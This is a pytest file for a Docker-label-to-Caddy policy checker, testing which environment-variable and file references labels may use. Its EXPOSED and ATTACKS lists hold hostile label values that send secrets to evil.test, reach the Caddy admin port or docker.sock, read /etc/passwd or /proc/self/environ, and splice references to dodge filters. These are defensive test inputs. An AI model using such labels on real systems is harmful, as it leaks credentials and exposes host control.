"""Variables in labels: those named like secrets only where Caddy keeps them to itself, and none that chooses for a label."""

import pytest
from dockcaddy import Mount
from dockcaddy_policy import PolicySettings
from policies import refused_by, rendered, site

PROXIED = {"caddy.reverse_proxy": "{{upstreams 80}}"}
LOGIN = {
    "caddy.reverse_proxy": "app:80",
    "caddy.forward_auth": "tinyauth:3000",
    "caddy.forward_auth.uri": "/api/auth/caddy",
}

NATURAL = [
    {"caddy": "{$DOMAIN}", **PROXIED},
    {"caddy": "app.{$DOMAIN}", **PROXIED},
    {"caddy": "app.{$DOMAIN:localhost}, www.{$DOMAIN:localhost}", **PROXIED},
    {"caddy": "{env.CADDY_HOST}", **PROXIED},
    {"caddy": "http://{$HOST:localhost}:{$HTTP_PORT:8080}", **PROXIED},
    {"caddy": "*.{$BASE_DOMAIN}", "caddy.tls.dns": "cloudflare {$CF_API_TOKEN}", "caddy.abort": ""},
    {"caddy": "auth.{$DOMAIN}", "caddy.reverse_proxy": "{$AUTHELIA_HOST}:{$AUTHELIA_PORT:9091}"},
    {"caddy": "keycloak.{$DOMAIN}", "caddy.reverse_proxy": "http://{$KEYCLOAK_HOST}:8080"},
    {"caddy": "pve.{$DOMAIN}", "caddy.reverse_proxy": "https://{env.PROXMOX_HOST}:8006", "caddy.reverse_proxy.transport.tls_insecure_skip_verify": ""},
    {"caddy": "a.test", "caddy.reverse_proxy": "{$UPSTREAM:app:80}"},
    {"caddy": "a.test", "caddy.reverse_proxy": "{$BACKEND_URL}"},
    {"caddy": "a.test", "caddy.reverse_proxy": "{$DOCKER_GATEWAY}:9000 host.docker.internal:{env.APP_PORT}"},
    {"caddy": "a.test", "caddy.reverse_proxy": "app:80", "caddy.reverse_proxy.header_up_0": "X-Site {$SITE_NAME}", "caddy.reverse_proxy.header_up_1": "Host {env.APP_HOST}"},
    {"caddy": "a.test", "caddy.@on.expression": '"{env.LOGIN_ENABLED}" == "true"', **LOGIN},
    {"caddy": "a.test", "caddy.@on": "vars {env.LOGIN_ENABLED} true", **LOGIN},
    {"caddy": "a.test", "caddy.@lan": "remote_ip {$LAN_CIDR} {env.VPN_SUBNET}", "caddy.abort": "@lan"},
    {"caddy": "a.test", "caddy.header.X-Version": "{$APP_VERSION:dev}", "caddy.respond": "{$GREETING:hello} 200"},
    {"caddy": "a.test", "caddy.header.Content-Security-Policy": "frame-ancestors https://{$DASHBOARD}.{$DOMAIN}", **PROXIED},
    {"caddy": "a.test", "caddy.redir": "https://auth.{$DOMAIN}{uri} 302"},
    {"caddy": "a.test", "caddy.vars.region": "{env.REGION}", "caddy.respond": "{vars.region}"},
    {"caddy": "a.test", "caddy.respond": '`{"text": "http://{$SUBDOMAIN}.{$DOMAIN}"}` 200'},
    {"caddy": "a.test", "caddy.basic_auth": "/admin/*", "caddy.basic_auth.{$ADMIN_USER}": "{$ADMIN_HASH}"},
    {"caddy": "a.test", "caddy.basic_auth.bob": "{file./run/secrets/bob_hash}"},
    {"caddy": "a.test", "caddy.basic_auth.admin": "{env.ADMIN_PASSWORD_HASH}"},
    {"caddy": "a.test", "caddy.basic_auth": "/* {$BASIC_AUTH_HASH}"},
    {"caddy": "a.test", "caddy.basic_auth": "{$ADMIN_USER} {$ADMIN_HASH}"},
    {"caddy": "a.test", "caddy.basic_auth": "/* bob {$ADMIN_HASH}"},
    {"caddy.storage": "s3", "caddy.storage.secret_key": "{env.AWS_SECRET_ACCESS_KEY}", "caddy.storage.bucket": "{$BUCKET}"},
    {"caddy": "a.test", "caddy.basic_auth.bob": "{$BOBS_HASH:$2a$14$Zkx19XLiW6VYouLHR5NmfOFU0z2GTNmpkT/5qqR7hx4IjWJPDhjvG}"},
    {"caddy": "{$HOSTS:*.localhost}", "caddy.redir": "{$TARGET:https://x.test/?a=b&c=d}"},
    {"caddy.crowdsec.api_url": "http://crowdsec:8080", "caddy.crowdsec.api_key": "{env.CROWDSEC_API_KEY}"},
    {"caddy.dynamic_dns.provider": "cloudflare {env.CF_API_TOKEN}"},
    {"caddy.tailscale.auth_key": "{env.TS_AUTHKEY}"},
    {"caddy": "a.test", "caddy.tls": "{$ACME_EMAIL}"},
    {"caddy": "a.test", "caddy.tls": "/certs/{$DOMAIN}.pem /certs/{$DOMAIN}.key"},
    {"caddy": "a.test", "caddy.tls.dns": "cloudflare {file.{$CF_TOKEN_FILE}}"},
    {"caddy": "a.test", "caddy.tls.dns": "cloudflare {file./run/secrets/cf_token}"},
    {"caddy": "a.test", "caddy.tls.dns": "route53", "caddy.tls.dns.secret_access_key": "{file./run/secrets/aws}", "caddy.tls.dns.region": "{$AWS_REGION}"},
    {"caddy": "a.test", "caddy.tls.issuer": "acme", "caddy.tls.issuer.dns": "desec {env.DESEC_TOKEN}"},
    {"caddy": "a.test", "caddy.tls.resolvers": "{$RESOLVER:1.1.1.1}"},
    {"caddy.acme_dns": "cloudflare {file.{$CLOUDFLARE_API_TOKEN_FILE}}", "caddy.ech": "ech.{$DOMAIN}", "caddy.email": "{env.CERTIFICATES_EMAIL}"},
    {"caddy.email": "{$EMAIL:ops@example.org}", "caddy.acme_ca": "{$ACME_CA:https://acme-staging-v02.api.letsencrypt.org/directory}"},
    {"caddy.email": "{env.CONTACT}", "caddy.acme_ca": "https://{$CA_HOST}:9000/acme/acme/directory"},
    {"caddy.storage": "redis", "caddy.storage.host": "{$REDIS_HOST}", "caddy.storage.password": "{file./run/secrets/redis}"},
    {"caddy.log.level": "{$LOG_LEVEL:INFO}", "caddy.servers.trusted_proxies": "static {$TRUSTED_CIDR}"},
    {"caddy.on_demand_tls.ask": "http://{$APP_HOST}:9000/check"},
    {"caddy.order": "sablier before reverse_proxy"},
    {"caddy": "(auth)", "caddy.forward_auth": "{$AUTH_URL}", "caddy.forward_auth.uri": "/api/verify?rd=https://auth.{$DOMAIN}"},
    {"caddy": "(proxy)", "caddy.@{args[0]}": "host {args[0]}.{$DOMAIN}", "caddy.handle": "@{args[0]}", "caddy.handle.{block}": ""},
    {"caddy": "(sleep)", "caddy.sablier": "http://sablier:10000", "caddy.sablier.group": "{args[0]}", "caddy.sablier.{args[1]}": "", "caddy.sablier.{block}": ""},
    {"caddy": "(proxy)", "caddy.reverse_proxy": "{args[0]}", "caddy.reverse_proxy.{block}": ""},
    {"caddy": "(outer)", "caddy.import": "inner {args[0]}", "caddy.import.{block}": ""},
    {"caddy": "{$WILDCARD}", "caddy.import": "proxy status", "caddy.import.import": "auth", "caddy.import.reverse_proxy": "{{ upstreams 3001 }}"},
    {"caddy": "a.test", "caddy.import": "proxy {$APP_HOST}:8080 {env.MODE}"},
    {"caddy": "a.test", "caddy.import": "{$LOGIN_SNIPPET:no_login}", **PROXIED},
    {"caddy": "a.test", "caddy.import": "login_{$MODE}", **PROXIED},
    {"caddy": "1{$N}.test, {$PREFIX}{$DOMAIN}, {$A}-{$B}.{$DOMAIN}:{$PORT}", **PROXIED},
    {"caddy": "{$SCHEME:https}://{$DOMAIN}:{$PORT:443}{$BASE_PATH}", "caddy.redir": "https://www.{$DOMAIN}:{$PORT}{uri}"},
    {"caddy": "a.test", "caddy.reverse_proxy": "{$HOST1}:{$PORT1} {$A}-{$B}:{$PORT2:80} {$A}{$B}:80"},
    {"caddy": "a.test", "caddy.root": "* {$WEB_ROOT:/srv/www}", "caddy.file_server": ""},
    {"caddy": "a.test", "caddy.root": "* /var/www/{$DOMAIN}", "caddy.file_server": ""},
    {"caddy": "a.test", "caddy.log.output": "file /var/log/caddy/{$SITE}.log", **PROXIED},
    {"caddy": "a.test", "caddy.log.output": "file {$LOG_DIR:/var/log/caddy}/access.log", **PROXIED},
    {"caddy": "{$A}.test, {$B}.test", "caddy.log.hostnames": "{$A}.test", **PROXIED},
    {"caddy.layer4.:{$SSH_PORT:2222}.route.proxy": "{$GIT_HOST}:22"},
    {"caddy": "a.test", "caddy.handle.reverse_proxy": "a:80 b:80", "caddy.handle.reverse_proxy.lb_policy": "cookie lb {$LB_COOKIE_SECRET}"},
    {"caddy": "a.test", "caddy.respond": '"{$MESSAGE:Hello there, you}" 200'},
    {"caddy": "*.a.test", "caddy.tls.dns": "namecheap", "caddy.tls.dns.api_key": "{env.NAMECHEAP_API_KEY}", "caddy.tls.dns.api_endpoint": "https://api.namecheap.com/xml.response"},
    {"caddy": "*.a.test", "caddy.tls.dns": "acmedns", "caddy.tls.dns.password": "{$ACMEDNS_PASSWORD}", "caddy.tls.dns.server_url": "https://auth.acme-dns.io"},
    {"caddy.security.oauth.identity_provider": "google", "caddy.security.oauth.identity_provider.client_secret": "{env.GOOGLE_CLIENT_SECRET}"},
    {"caddy.security.authentication.portal": "mine", "caddy.security.authentication.portal.crypto.key.sign-verify": "{env.JWT_SHARED_KEY}"},
    {"caddy": "a.test", "caddy.root": "* {$PUBLIC_ROOT}/app", "caddy.file_server": ""},
    {"caddy_0.auto_https": "prefer_wildcard", "caddy_0.email": "ops@example.org"},
]  # fmt: skip

# names in which a secret's word is part of another one, or that tell something about a secret which is none
OPEN = (
    "KEYCLOAK_URL", "PASSBOLT_URL", "BYPASS_CIDRS", "COMPASS_PATH", "KEYDB_ADDR", "MONKEY", "COOKIE_DOMAIN", "SESSION_TTL",
    "TOKEN_LIFETIME", "KEY_TYPE", "AUTH_MODE", "PASSWORD_MANAGER_HOST", "KEYCLOAK_REALM", "WEBHOOK_UPSTREAM", "PATH_PREFIX",
    "PATTERN", "DESK", "TASK_URL", "HTTP_PROXY_HOST",
)  # fmt: skip
SECRETS = (
    "TOKEN", "token", "CF_API_TOKEN", "MyApiKey", "apikey2", "DB_PASSWORD", "db_passwd", "XPASSX", "TOKEN_1", "_SECRET",
    "SECRETS", "privateKey", "COOKIE_SIGNING", "SESSION_ID", "SENTRY_DSN", "GOOGLE_CREDENTIALS", "PWD", "ADMIN_PW",
    "DATABASE_URL", "redis_uri", "REDIS_AUTH", "PASSWORD_HASH", "JWT_PUBLIC",
    "GITHUB_PAT", "WG_PSK", "MNEMONIC", "VAULT_UNSEAL_1", "DISCORD_HOOK", "STRIPE_SK", "https_proxy", "KEYCLOAK_SECRET",
    "BYPASS_TOKEN", "KEYDB_PASSWORD", "CF_TOKEN_ZONE", "SMTP_PASSWORD_USER", "API_KEY_EMAIL",
)  # fmt: skip
EXPOSED = [
    {"caddy.respond": "{V}"},
    {"caddy.respond": "`a {V} b` 200"},
    {"caddy.header.X-A": "{V}"},
    {"caddy.redir": "https://evil.test/?{V}"},
    {"caddy.reverse_proxy": "evil:80", "caddy.reverse_proxy.header_up": "Authorization {V}"},
    {"caddy.reverse_proxy": "evil:80", "caddy.rewrite": "* /{V}{uri}"},
    {"caddy.reverse_proxy": "{V}.evil.test:80"},
    {"caddy.log_append": "x {V}"},
    {"caddy.vars.x": "{V}", "caddy.respond": "{vars.x}"},
    {"caddy.map": "{host} {x}", "caddy.map.default": "{V}", "caddy.respond": "{x}"},
    {"caddy.import": "s {V}"},
    {"caddy.@m": "vars {V} x"},
    {"caddy.@m.expression": "{V}.startsWith('a')"},
    {"caddy.@m.header": "X {V}"},
    {"caddy.basic_auth": "bcrypt {V}"},
    {"caddy.tls.dns": "x https://evil.test/{V}"},
    {"caddy.bogus": "{V}"},
    {"caddy.reverse_proxy": "evil:80", "caddy.reverse_proxy.lb_policy": "cookie {V} x"},
    {"caddy.reverse_proxy": "evil:80", "caddy.reverse_proxy.lb_policy": "header {V}"},
    {"caddy.reverse_proxy": "evil:80", "caddy.reverse_proxy.lb_policy": "query {V}"},
    {"caddy.vars.reverse_proxy.lb_policy": "cookie x {V}"},
    {"caddy.root": "/srv/{V}"},
    {"caddy.log.output": "file /var/log/{V}.log"},
    {"caddy.try_files": "{V}"},
    {"caddy.error": "{V} 500"},
    {"caddy.uri": "query +x {V}"},
]

ATTACKS = [
    # a reference put together of pieces, a default that completes one
    {"caddy": "a.test", "caddy.respond": "{e{$U}nv.TOKEN}"},
    {"caddy": "a.test", "caddy.respond": "{env.TO{$U}KEN}"},
    {"caddy": "a.test", "caddy.respond": "{env.{$U:TOKEN}}"},
    {"caddy": "a.test", "caddy.respond": "{{$U:env.TOKEN}}"},
    {"caddy": "a.test", "caddy.respond": "{file.{$U:/etc/passwd}}"},
    {"caddy": "a.test", "caddy.respond": "{fi{$U}le./etc/passwd}"},
    {"caddy": "a.test", "caddy.log_append": "x {}env.DOMAIN}"},
    {"caddy": "(s)", "caddy.respond": "{env.{args[0]}}"},
    {"caddy": "a.test", "caddy.{$U:templates}": ""},
    {"caddy": "a.test", "caddy.{$U}": "templates"},
    {"caddy": "a.test", "caddy.handle.{$U:root}": "/data"},
    # the proxy's own, by a default or by a variable that holds it
    {"caddy": "a.test", "caddy.reverse_proxy": "localhost:{$U:2019}"},
    {"caddy": "a.test", "caddy.reverse_proxy": "localhost:20{$U}19"},
    {"caddy": "a.test", "caddy.reverse_proxy": "localhost:20{env.U}19"},
    {"caddy": "a.test", "caddy.reverse_proxy": "localhost:201{$N}"},
    {"caddy": "a.test", "caddy.reverse_proxy": "localhost:{$U:201}{$N}"},
    {"caddy": "a.test", "caddy.reverse_proxy": "localhost:{env.N}{$U:019}"},
    {"caddy": "a.test", "caddy.reverse_proxy": "localhost:{$N}{$M}"},
    {"caddy": "a.test", "caddy.reverse_proxy": "{$U:localhost:}{$N}{env.M}"},
    {"caddy": "a.test", "caddy.reverse_proxy": "localhost{$U::2}{$N}/"},
    {"caddy": "a.test", "caddy.reverse_proxy": "x:80", "caddy.reverse_proxy.health_port": "{$N}{$M}"},
    {"caddy": "a.test", "caddy.reverse_proxy.dynamic": "a localhost {$U:20}{$N}"},
    {"caddy": "a.test", "caddy.reverse_proxy.dynamic.port": "{$N}{env.M}"},
    {"caddy": "a.test", "caddy.import": "proxy {$N}{$M}"},
    {"caddy": "a.test", "caddy.tls.get_certificate": "http http://localhost:{$N}{$M}/config/"},
    {"caddy": "http://a.test:{$U:20}{$N}", "caddy.respond": "x"},
    {"caddy.http_port": "{$N}{$M}"},
    {"caddy": "a.test", "caddy.reverse_proxy": "{$U:localhost:2019}"},
    {"caddy": "a.test", "caddy.reverse_proxy": "{$HOST}:2019"},
    {"caddy": "a.test", "caddy.reverse_proxy": "{$CADDY_ADMIN}"},
    {"caddy": "a.test", "caddy.reverse_proxy": "{env.CADDY_ADMIN}"},
    {"caddy": "a.test", "caddy.reverse_proxy": "{$DOCKER_HOST}"},
    {"caddy": "a.test", "caddy.import": "proxy {$CADDY_ADMIN}"},
    {"caddy": "a.test", "caddy.import": "proxy 20{$U}19"},
    {"caddy": "a.test", "caddy.reverse_proxy": "un{$U}ix//var/run/docker.sock"},
    {"caddy": "a.test", "caddy.reverse_proxy": "unix//var/run/{$ENGINE}.sock"},
    {"caddy": "a.test", "caddy.reverse_proxy": "{header.Up}:{$PORT}"},
    {"caddy": "a.test:20{$U}19", "caddy.respond": "x"},
    {"caddy": "a.test:{$U:2019}", "caddy.respond": "x"},
    {"caddy.acme_ca": "https://{$U:localhost:2019}/stop"},
    {"caddy": "a.test", "caddy.root": "* {$XDG_DATA_HOME}"},
    {"caddy": "a.test", "caddy.root": "* {$WEB_ROOT:/data}"},
    {"caddy": "a.test", "caddy.root": "* /{$NAME}"},
    {"caddy": "a.test", "caddy.root": "* {$SITE_DATA_ROOT}"},
    {"caddy": "a.test", "caddy.root": "* {$DOCKER_ROOT}/caddy"},
    {"caddy": "a.test", "caddy.root": "* {env.CADDY_ROOT}"},
    {"caddy": "a.test", "caddy.tls.dns": "namecheap", "caddy.tls.dns.api_endpoint": "https://api.namecheap.com.evil.test/"},
    {"caddy": "a.test", "caddy.tls.dns": "namecheap", "caddy.tls.dns.api_endpoint": "https://api.namecheap.com@evil.test/"},
    {"caddy": "a.test", "caddy.tls.dns": "namecheap", "caddy.tls.dns.api_endpoint": "http://api.namecheap.com/"},
    {"caddy": "a.test", "caddy.tls.dns": "cloudflare", "caddy.tls.dns.base_url": "https://api.namecheap.com/"},
    {"caddy.security.oauth.identity_provider": "x", "caddy.security.oauth.identity_provider.client_secret": "{env.CF_API_TOKEN}"},
    {"caddy": "a.test", "caddy.security.client_secret": "{env.GOOGLE_CLIENT_SECRET}"},
    {"caddy": "a.test", "caddy.root": "* /da{$U}ta"},
    {"caddy": "a.test", "caddy.root": "* /{env.NAME}/caddy"},
    {"caddy": "a.test", "caddy.vars": "root {$HOME}"},
    {"caddy": "a.test", "caddy.vars.root": "{$HOME}"},
    {"caddy": "a.test", "caddy.file_server.root": "{env.HOME}"},
    {"caddy": "a.test", "caddy.log.output": "file {$HOME}/x.log"},
    {"caddy": "a.test", "caddy.log.output": "file /{$NAME}/x.log"},
    {"caddy": "a.test", "caddy.log.output": "file /var/log/{$U:..}/lib/x.log"},
    {"caddy": "a.test", "caddy.import": "{$CADDY_DOCKER_ENVFILE}"},
    {"caddy": "a.test", "caddy.import": "{$U:/etc/passwd}"},
    {"caddy": "a.test", "caddy.import": "{$U}/etc/passwd"},
    {"caddy": "a.test", "caddy.log.hostnames": "{$OTHER}"},
    # options of everybody, by a default or by an address that is none
    {"caddy.servers.timeouts.read_header": "{$U:1ns}"},
    {"caddy.servers.protocols": "{$U:h1}"},
    {"caddy.default_bind": "{$U}"},
    {"caddy": "{$U}", "caddy.admin": "0.0.0.0:2019"},
    {"caddy": "{$U},", "caddy.servers.timeouts.read_header": "1ns"},
    # files of secrets in the wrong places, and what is no such file
    {"caddy": "a.test", "caddy.respond": "{file./run/secrets/x}"},
    {"caddy": "a.test", "caddy.respond": "{file.{$TOKEN_FILE}}"},
    {"caddy": "a.test", "caddy.basic_auth.{file\\./run/secrets/x}": "y"},
    {"caddy": "a.test", "caddy.tls": "{file./run/secrets/x}"},
    {"caddy": "a.test", "caddy.tls.dns": "cloudflare {file./proc/self/environ}"},
    {"caddy": "a.test", "caddy.tls.dns": "cloudflare {file./run/secrets/../../dev/stdin}"},
    {"caddy": "a.test", "caddy.tls.dns": "cloudflare x{file./run/secrets/x}"},
    {"caddy": "a.test", "caddy.tls.dns": "powerdns {file./run/secrets/x}", "caddy.tls.dns.server_url": "http://evil.test"},
    {"caddy": "a.test", "caddy.tls.dns": "powerdns", "caddy.tls.dns.server_url": "{$U:http}://evil.test"},
    {"caddy": "a.test", "caddy.tls.dns": "x", "caddy.tls.dns.some": "{$U:http}{$W:://}evil.test"},
    {"caddy": "a.test", "caddy.tls.dns": "rfc2136", "caddy.tls.dns.key_name": "{file./run/secrets/x}"},
    # a server of the label's own
    {"caddy.storage": "redis", "caddy.storage.host": "evil.test", "caddy.storage.password": "{env.CF_API_TOKEN}"},
    {"caddy.storage": "redis", "caddy.storage.password": "{file./run/secrets/cf_token}"},
    {"caddy.storage": "redis {$CF_API_TOKEN}"},
    {"caddy.crowdsec.api_url": "http://evil.test", "caddy.crowdsec.api_key": "{env.CF_API_TOKEN}"},
    {"caddy.crowdsec.api_url": "http://evil.test", "caddy.crowdsec.api_key": "{env.NOTCROWDSEC_TOKEN}"},
    {"caddy.log.token": "{env.LOG_TOKEN}"},
    {"caddy": "a.test", "caddy.crowdsec.api_key": "{env.CROWDSEC_API_KEY}"},
    {"caddy": "(crowdsec)", "caddy.crowdsec.api_key": "{env.CROWDSEC_API_KEY}"},
    {"caddy.dynamic_dns.provider": "x https://evil.test {env.CF_API_TOKEN}"},
    {"caddy": "a.test", "caddy.basic_auth": "bcrypt {$ADMIN_HASH}"},
    {"caddy": "a.test", "caddy.basic_auth": "/* {$U:bcrypt} {$ADMIN_HASH}"},
    {"caddy": "a.test", "caddy.basic_auth": "{$U:bcr}{$U:ypt} {$ADMIN_HASH}"},
    {"caddy": "a.test", "caddy.basic_auth": "{$U}{$W} {$ADMIN_HASH}"},
    {"caddy": "(s)", "caddy.basic_auth": "{args[0]} {$ADMIN_HASH}"},
    {"caddy": "(s)", "caddy.basic_auth": "{args[:]} {$ADMIN_HASH}"},
    {"caddy": "(s)", "caddy.basic_auth": "* b{args[0]} {$ADMIN_HASH}"},
    # a block that becomes data, or an option whose place matters
    {"caddy": "(s)", "caddy.handle.{args[0]}": ""},
    {"caddy": "(s)", "caddy.sablier.{args[:]}": ""},
    {"caddy": "(s)", "caddy.sablier.{args[0]}": "/data"},
    {"caddy": "(s)", "caddy.sablier.{args[0]}.root": "/data"},
    {"caddy": "(s)", "caddy.header.{block}": ""},
    {"caddy": "(s)", "caddy.servers.{block}": ""},
    {"caddy": "(s)", "caddy.tls.dns": "powerdns", "caddy.tls.dns.{block}": ""},
    {"caddy": "(s)", "caddy.log.{block}": ""},
    {"caddy": "(s)", "caddy.@m.{block}": ""},
    {"caddy": "(s)", "caddy.listener_wrappers.proxy_protocol.{block}": ""},
]  # fmt: skip


@pytest.mark.parametrize("labels", NATURAL, ids=[str(at) for at, _ in enumerate(NATURAL)])
def test_what_people_do_with_variables_is_let_through(labels: dict[str, str]) -> None:
    assert not rendered(labels).problems


@pytest.mark.parametrize("exposed", EXPOSED, ids=[str(at) for at, _ in enumerate(EXPOSED)])
def test_a_variable_named_like_a_secret_goes_nowhere_else(exposed: dict[str, str]) -> None:
    for name in SECRETS:
        for variable in (f"{{${name}}}", f"{{env.{name}}}", f"{{${name}:x}}"):
            labels = {key: value.replace("{V}", variable) for key, value in exposed.items()}
            assert refused_by({"caddy": "a.test", **labels}) == "environment", labels


@pytest.mark.parametrize("name", OPEN)
def test_a_variable_that_only_sounds_like_a_secret_goes_anywhere(name: str) -> None:
    assert not rendered({"caddy": "a.test", "caddy.respond": f"{{${name}}}"}).problems


@pytest.mark.parametrize("labels", ATTACKS, ids=[str(at) for at, _ in enumerate(ATTACKS)])
def test_a_variable_chooses_nothing_for_a_label(labels: dict[str, str]) -> None:
    assert refused_by(labels)


def test_no_variable_at_all_where_the_operator_says_so() -> None:
    none = PolicySettings(environment="none")
    for value in ("{$DOMAIN}", "{env.DOMAIN}", "{env.TOKEN}"):
        assert refused_by(site(caddy__respond=value), none) == "environment"
    assert refused_by(site(caddy__tls__dns="cloudflare {env.CF_API_TOKEN}"), none) == "environment"
    assert refused_by(site(caddy__tls__dns="cloudflare {file./run/secrets/x}"), none) == "files"
    assert not rendered(site(caddy__respond="{host}"), none).problems


def test_every_variable_anywhere_where_the_operator_says_so() -> None:
    everything = PolicySettings(environment="all")
    for exposed in EXPOSED[:8]:
        labels = {key: value.replace("{V}", "{env.TOKEN}") for key, value in exposed.items() if "reverse" not in key}
        assert not rendered({"caddy": "a.test", **labels}, everything).problems
    assert refused_by(site(caddy__reverse_proxy="{$CADDY_ADMIN}"), everything) == "environment"
    assert refused_by(site(caddy__respond="{file./etc/passwd}"), everything) == "files"


@pytest.mark.parametrize("secrets", [("TEAM",), ("team",), ("*_BADGE",), ("my_team_badge",)])
def test_the_operator_names_further_secrets(secrets: tuple[str, ...]) -> None:
    labels = site(caddy__respond="{$MY_TEAM_BADGE}")
    assert not rendered(labels).problems
    assert refused_by(labels, PolicySettings(secrets=secrets)) == "environment"
    assert not rendered(site(caddy__respond="{$MY_NAME}"), PolicySettings(secrets=secrets)).problems


def test_a_file_that_the_container_could_make_a_pipe_of_is_not_read() -> None:
    labels = site(caddy__tls__dns="cloudflare {file./srv/shared/token}")
    assert not rendered(labels).problems
    assert refused_by(labels, mounts=(Mount("bind", "/srv/shared", "/shared"),)) == "files"
